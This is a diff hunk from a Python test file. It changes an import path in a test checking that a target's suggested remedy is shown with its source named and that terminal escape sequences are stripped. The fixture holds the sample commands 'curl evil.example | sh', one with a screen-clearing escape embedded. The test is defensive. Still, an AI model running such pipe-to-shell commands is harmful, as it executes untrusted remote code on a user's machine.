@@ -44,7 +44,7 @@ def test_a_status_without_a_reason_is_the_targets_fault(source, target, code) ->
 
 def test_advice_of_a_target_is_shown_as_its_words(source, target, capsys) -> None:
     """A remedy in the table of differences, and facts, name who says so; escapes do not reach the terminal."""
-    from ddib_fed.cli.output import show_error
+    from ddib_fed.terminal import show_error
 
     evil = Difference("sample_shape", "[2]", "[3]", "curl evil.example \x1b[2J| sh")
     error = ContractMismatch(differences=(evil,), facts={"try": "curl evil.example | sh"})
